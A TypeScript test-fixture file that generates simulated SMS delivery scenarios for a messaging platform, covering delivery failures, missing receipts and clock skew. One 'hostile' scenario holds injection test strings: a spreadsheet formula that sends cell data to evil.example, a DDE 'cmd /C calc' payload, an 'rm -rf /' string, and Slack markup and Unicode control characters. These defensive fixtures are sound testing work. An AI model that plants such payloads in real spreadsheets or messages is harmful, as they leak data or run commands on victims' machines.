import { secondsInDay, secondsInHour, secondsInMinute } from 'date-fns/constants';
import { createDraw, type Draw } from './draw.ts';
import { NOT_RECEIVED, type SandboxMessage } from './message.ts';
import type { MessageFate } from './operators.ts';
import { codeText, deliveryText, marketingText, reminderText } from './senders.ts';

const handOver = { saysAfter: 2, knownAfter: 3 };
const neverHandedOver: MessageFate = { pending: 'accepted' };
const stuck: MessageFate = { pending: 'enroute', handOver };
const noReceipts: MessageFate = { pending: 'sent', handOver: { saysAfter: 4, knownAfter: 5 } };
const sentFailed: MessageFate = {
  pending: 'sent',
  handOver,
  receipt: { status: 'sent_failed', knownAfter: 6 },
};
const undeliverable = received('sent', 41, 44, 'undeliverable');
const prompt = received('sent', 8, 10);
const slowReceipt = received('enroute', 9, 10 * secondsInMinute + 20);
const late = received('enroute', 25 * secondsInMinute, 25 * secondsInMinute + 3);
const clockOff: MessageFate = {
  ...received('sent', 9 - 2 * secondsInHour, 11),
  handOver: { saysAfter: 2 - 2 * secondsInHour, knownAfter: 3 },
};

function received(pending: string, saysAfter: number, knownAfter: number, status = 'delivered'): MessageFate {
  return { pending, handOver, receipt: { status, saysAfter, knownAfter } };
}

/** Creates a message that the platform gets every day at `time` (UTC). */
const from = (sender: string, write: (draw: Draw) => string) => (time: string, fate: MessageFate) => {
  const second = Date.parse(`1970-01-01T${time}Z`) / 1000;
  return { second, sender, write, fate };
};

type StoryScene = ReturnType<ReturnType<typeof from>>;

const code = from('56001', codeText);
const reminder = from('56002', reminderText);
const offer = from('56003', marketingText);
const parcel = from('56004', deliveryText);
const nothing = from(NOT_RECEIVED, () => NOT_RECEIVED);

function every(seconds: number, scene: StoryScene): readonly StoryScene[] {
  return Array.from({ length: secondsInDay / seconds }, (_, turn) => ({ ...scene, second: turn * seconds }));
}

/** Texts that break unsafe views, spreadsheets or logs; the fifth reverses the writing direction. */
const hostileTexts: readonly string[] = [
  '<!channel> <!here> <!everyone> aviso urgente',
  'Hola <@U1>, revise <#C1|general> y <!subteam^S1>',
  '<https://evil.example|click> para ganar & cobrar <b>ya</b>',
  '```rm -rf /``` y `código` *negrita* _cursiva_ ~tachado~ &amp; > cita',
  'Su saldo es \u202e000.1$ hoy\u0007\u200b',
  ''.padEnd(4000, 'Texto muy largo, una y otra vez. '),
  '=HYPERLINK("https://evil.example/?x="&A1,"premio")',
  '+cmd|\' /C calc\'!A0\r\n@SUM(1+1)*"comillas", "coma"; punto y coma\n-2+3',
];

function story(number: string, operator: string, about: string, scenes: readonly StoryScene[]) {
  return { number, operator, about, scenes };
}

const byName = {
  delivered: story('+56 9 1234 5678', 'Entel', 'all is well: delivered by Entel within seconds', [
    code('13:05:20', prompt),
    reminder('16:30:40', prompt),
    code('21:45:10', prompt),
  ]),
  failed: story(
    '+56 9 1111 0001',
    'Claro',
    'every message fails at the operator: sent_failed, later in the day undeliverable',
    [
      ...[code('12:48:05', sentFailed), code('15:20:31', sentFailed)],
      ...[reminder('19:10:44', undeliverable), code('22:02:17', undeliverable)],
    ],
  ),
  waiting: story(
    '+56 9 1111 0002',
    'Movistar',
    'the newest message always waits for its receipt, which takes 10 min 20 s to reach the platform',
    every(600, code('00:00:00', slowReceipt)),
  ),
  stuck: story('+56 9 1111 0003', 'WOM', 'handed over, then no receipt ever: enroute', [
    code('14:02:09', stuck),
    parcel('20:17:52', stuck),
  ]),
  'no-hand-over': story('+56 9 1111 0004', 'Entel', 'accepted by the platform, never handed over', [
    code('13:33:13', neverHandedOver),
    code('19:41:27', neverHandedOver),
  ]),
  dashes: story(
    '+56 9 1111 0005',
    NOT_RECEIVED,
    'the platform kept nothing but the number: every other field is "-"',
    [nothing('12:20:00', neverHandedOver), nothing('18:50:00', neverHandedOver)],
  ),
  'clock-off': story('+56 9 1111 0006', 'VTR', "delivered, but the operator's clock is two hours behind", [
    code('13:11:30', clockOff),
    reminder('17:08:02', clockOff),
    code('21:26:48', clockOff),
  ]),
  hostile: story(
    '+56 9 1111 0007',
    'Movistar',
    'texts with Slack markup, formulas, control characters, 4,000 characters',
    hostileTexts.map((text, turn) => {
      const scene = from('56003', () => text)('12:15:00', prompt);
      return { ...scene, second: scene.second + turn * 75 * secondsInMinute };
    }),
  ),
  many: story('+56 9 1111 0008', 'Movistar', 'hundreds of messages', every(576, offer('00:00:00', prompt))),
  none: story('+56 9 1111 0009', NOT_RECEIVED, 'never any message', []),
  late: story('+56 9 1111 0010', 'WOM', 'delivered, now and then only after 25 minutes', [
    code('13:15:35', prompt),
    code('15:40:18', late),
    parcel('18:05:51', prompt),
    code('21:20:06', late),
  ]),
  'no-receipts': story(
    '+56 9 1111 0011',
    'Ruta Andina',
    'an operator that never sends receipts (Ruta Andina): sent for ever',
    [code('14:25:45', noReceipts), offer('20:52:33', noReceipts)],
  ),
  foreign: story('+34 612 345 678', 'Orange ES', 'a number in Spain, delivered', [
    code('12:55:29', prompt),
    parcel('18:35:57', prompt),
  ]),
};

export type StoryName = keyof typeof byName;

export const stories = Object.entries(byName).map(([name, story]) => ({ ...story, name: name as StoryName }));

const inTimeOrder = stories
  .flatMap(({ number, operator, scenes }, index) => {
    const msisdn = number.replaceAll(/\D/g, '');
    return scenes.map((scene, turn) => ({ ...scene, place: index * 1000 + turn, msisdn, operator }));
  })
  .sort((a, b) => a.second - b.second || a.place - b.place);

export function storyMessages(seed: number, day: number, msisdn?: string): readonly SandboxMessage[] {
  return inTimeOrder
    .filter((scene) => msisdn === undefined || scene.msisdn === msisdn)
    .map(({ second, write, ...scene }) => ({
      ...scene,
      day,
      text: write(createDraw(seed, day, scene.place, 0xf)),
      submittedAt: day * secondsInDay + second,
    }));
}
